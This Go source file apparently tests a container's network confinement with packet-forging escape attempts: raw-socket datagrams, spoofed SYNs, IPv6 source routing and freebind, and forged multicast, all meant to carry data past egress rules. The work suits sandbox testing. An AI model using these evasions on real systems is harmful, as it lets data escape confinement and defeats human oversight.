package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// forgeAttacks make the kernel believe that another began an exchange, or send elsewhere than
// they say. Those that need a peer have a device to it, and the peer sees whether they have won.
func forgeAttacks() []attack {
	return []attack{
		{"net-raw-null", "N1", needRaw, "send fragments by a raw socket, after a datagram without ports that is allowed", netNullPorts},
		{"net-raw-version", "N1", needRaw, "send IPv4 that says that it is IPv6", netWrongVersion},
		{"net-preexisting-answered", "N1", "", "send by a UDP socket that was connected before, when its peer has sent first", netOldAnswered},
		{"net-source-route", "N1", needPeer, "have an allowed TCP connection take a source route by way of another address", (*env).netSourceRoute},
		{"net-source-route-answer", "N1", needPeer, "have an own listener answer by way of another address", (*env).netSourceRouteAnswer},
		{"net-forged-syn", "N1", needPeerRaw, "have an own listener answer a connection that a raw socket made up", (*env).netForgedSYN},
		{"net-freebind", "N1", needPeer, "have an own listener answer a connection that was bound to another's address", (*env).netFreebind},
		{"net-forged-multicast", "N1", needPeerRaw, "answer a datagram that a raw socket made up and the kernel gave back", (*env).netForgedMulticast},
	}
}

// netNullPorts has an exchange without ports allowed, which no list of ports can deny.
func netNullPorts(*env) error {
	return netUDP("127.0.0.1", func(at netip.AddrPort) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_UDP)
		if err != nil {
			return err
		}
		if err := unix.Sendto(fd, udpPacket(0, 0, "x"), 0, inet4(at)); err != nil {
			return err
		}
		return sendFragments(at)
	})
}

// netWrongVersion wins if the kernel sends it; who is on the same network may read it.
func netWrongVersion(*env) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	h := make([]byte, 64)
	h[0], h[6] = 0x65, unix.IPPROTO_NONE // the next header of IPv6; to the kernel the fragment's offset
	return unix.Sendto(fd, h, 0, inet4(netAddr("127.0.0.1", 0)))
}

// netOldAnswered is by turns the socket that was connected before and its peer, who sends to a
// port that no rule denies.
func netOldAnswered(e *env) error {
	peer, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netAddr("127.0.0.1", 0)))
	if err != nil {
		return untried(err)
	}
	old, err := net.Dial("udp", peer.LocalAddr().String())
	if err != nil {
		return untried(err)
	}
	if err := e.turn(); err != nil {
		return err
	}
	for range 3 {
		if _, err := peer.WriteTo([]byte("x"), old.LocalAddr()); err != nil {
			return untried(err)
		}
		pause(50 * time.Millisecond)
		if _, err := old.Write([]byte("x")); err != nil && !errors.Is(err, unix.EPERM) {
			return untried(err)
		}
	}
	if err := peer.SetReadDeadline(time.Now().Add(arriveTime)); err != nil {
		return untried(err)
	}
	if _, err := peer.Read(make([]byte, 1)); err != nil {
		return fmt.Errorf("%w: %w", errRefused, err)
	}
	return nil
}

// peerAddr returns who is at the other end.
func (e *env) peerAddr() (netip.AddrPort, error) {
	at, err := netip.ParseAddrPort(e.peer)
	return at, untried(err)
}

// ownAddr returns an address of the container's own, of IPv4 or not.
func ownAddr(v4 bool) (netip.Addr, error) {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return netip.Addr{}, untried(err)
	}
	for _, a := range addrs {
		p, err := netip.ParsePrefix(a.String())
		if err == nil && p.Addr().Is4() == v4 && !p.Addr().IsLoopback() && !p.Addr().IsLinkLocalUnicast() {
			return p.Addr(), nil
		}
	}
	return netip.Addr{}, untried(errors.New("no device"))
}

// netSourceRoute writes by way of --over, behind the handshake. Nobody there need forward it.
func (e *env) netSourceRoute() error {
	at, err := e.peerAddr()
	if err != nil {
		return err
	}
	over, err := netip.ParseAddr(e.over)
	if err != nil {
		return untried(err)
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return untried(err)
	}
	_, sa := sockaddr(at)
	if err := unix.Connect(fd, sa); err != nil {
		return untried(err)
	}
	if _, err := unix.Write(fd, []byte("x")); err != nil {
		return untried(err)
	}
	if err := sourceRoute(fd, over); err != nil {
		return err
	}
	if _, err := unix.Write(fd, []byte("exfiltrated")); err != nil {
		return err
	}
	pause(arriveTime)
	return nil
}

// sourceRoute has what a socket sends go by way of an address: a segment routing header, RFC 8754,
// of two segments, the last first, which the kernel fills in.
func sourceRoute(fd int, over netip.Addr) error {
	h := []byte{0, 4, 4, 1, 1, 0, 0, 0}
	h = append(h, make([]byte, 16)...)
	h = append(h, over.AsSlice()...)
	return untried(unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(h)))
}

// netSourceRouteAnswer connects to itself; only the answer leaves, and has ports to tell by.
func (e *env) netSourceRouteAnswer() error {
	over, err := netip.ParseAddr(e.over)
	if err != nil {
		return untried(err)
	}
	own, err := ownAddr(false)
	if err != nil {
		return err
	}
	l, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return untried(err)
	}
	_, at := sockaddr(netAddr(own.String(), 0))
	if err := errors.Join(unix.Bind(l, at), sourceRoute(l, over), unix.Listen(l, 1)); err != nil {
		return untried(err)
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return untried(err)
	}
	if err := unix.Connect(fd, at); err != nil && !errors.Is(err, unix.EINPROGRESS) {
		return untried(err)
	}
	pause(arriveTime)
	return nil
}

// sum adds 16-bit words as IP does.
func sum(parts ...[]byte) uint16 {
	var s uint32
	for _, b := range parts {
		for i := 0; i+1 < len(b); i += 2 {
			s += uint32(binary.BigEndian.Uint16(b[i:]))
		}
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}

// ip4Packet puts a header before a payload of an even length. The kernel fills in its checksum.
func ip4Packet(proto byte, from, to netip.Addr, payload []byte) []byte {
	h := make([]byte, 20, 20+len(payload))
	h[0], h[8], h[9] = 0x45, 64, proto
	copy(h[12:], from.AsSlice())
	copy(h[16:], to.AsSlice())
	return append(h, payload...)
}

func rawIP() (int, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	return fd, untried(err)
}

// netForgedSYN makes the peer open a connection to an own listener, which answers it.
func (e *env) netForgedSYN() error {
	at, err := e.peerAddr()
	if err != nil {
		return err
	}
	own, err := ownAddr(true)
	if err != nil {
		return err
	}
	l, err := net.Listen("tcp", netip.AddrPortFrom(own, 0).String())
	if err != nil {
		return untried(err)
	}
	fd, err := rawIP()
	if err != nil {
		return err
	}
	syn := make([]byte, 20)
	binary.BigEndian.PutUint16(syn, at.Port())
	binary.BigEndian.PutUint16(syn[2:], uint16(l.Addr().(*net.TCPAddr).Port))
	syn[12], syn[13], syn[14] = 5<<4, 0x02, 0x10
	pseudo := append(append(at.Addr().AsSlice(), own.AsSlice()...), 0, unix.IPPROTO_TCP, 0, byte(len(syn)))
	binary.BigEndian.PutUint16(syn[16:], sum(pseudo, syn))
	if err := unix.Sendto(fd, ip4Packet(unix.IPPROTO_TCP, at.Addr(), own, syn), 0, inet4(netip.AddrPortFrom(own, 0))); err != nil {
		return err
	}
	pause(arriveTime)
	return nil
}

// netFreebind needs no capability: IPv6 lets whoever asks bind what is not there.
func (e *env) netFreebind() error {
	at, err := e.peerAddr()
	if err != nil {
		return err
	}
	own, err := ownAddr(false)
	if err != nil {
		return err
	}
	l, err := net.Listen("tcp", netip.AddrPortFrom(own, 0).String())
	if err != nil {
		return untried(err)
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return untried(err)
	}
	_, from := sockaddr(at)
	_, to := sockaddr(netip.AddrPortFrom(own, uint16(l.Addr().(*net.TCPAddr).Port)))
	if err := errors.Join(unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_FREEBIND, 1), unix.Bind(fd, from)); err != nil {
		return untried(err)
	}
	if err := unix.Connect(fd, to); err != nil && !errors.Is(err, unix.EINPROGRESS) {
		return untried(err)
	}
	pause(arriveTime)
	return nil
}

// netForgedMulticast has the kernel give it back a datagram of the peer's, which the peer never
// sent, and asks the peer as if that were an answer.
func (e *env) netForgedMulticast() error {
	at, err := e.peerAddr()
	if err != nil {
		return err
	}
	c, err := net.ListenUDP("udp4", &net.UDPAddr{})
	if err != nil {
		return untried(err)
	}
	dev, err := net.InterfaceByName("eth0")
	if err != nil {
		return untried(err)
	}
	fd, err := rawIP()
	if err != nil {
		return err
	}
	if err := unix.SetsockoptIPMreqn(fd, unix.IPPROTO_IP, unix.IP_MULTICAST_IF, &unix.IPMreqn{Ifindex: int32(dev.Index)}); err != nil {
		return untried(err)
	}
	all := netip.MustParseAddr("224.0.0.1")
	p := ip4Packet(unix.IPPROTO_UDP, at.Addr(), all, udpPacket(at.Port(), uint16(c.LocalAddr().(*net.UDPAddr).Port), "made up!"))
	if err := unix.Sendto(fd, p, 0, inet4(netip.AddrPortFrom(all, 0))); err != nil {
		return err
	}
	b := make([]byte, 16)
	if err := c.SetReadDeadline(time.Now().Add(arriveTime)); err != nil {
		return untried(err)
	}
	if n, _, err := c.ReadFrom(b); err != nil || string(b[:n]) != "made up!" {
		return untried(fmt.Errorf("the kernel gave back %q, %w", b[:n], err))
	}
	if _, err := c.WriteToUDPAddrPort([]byte("secret"), at); err != nil {
		return err
	}
	if n, _, err := c.ReadFrom(b); err != nil {
		return fmt.Errorf("%w: %q: %w", errRefused, b[:n], err)
	}
	return nil
}
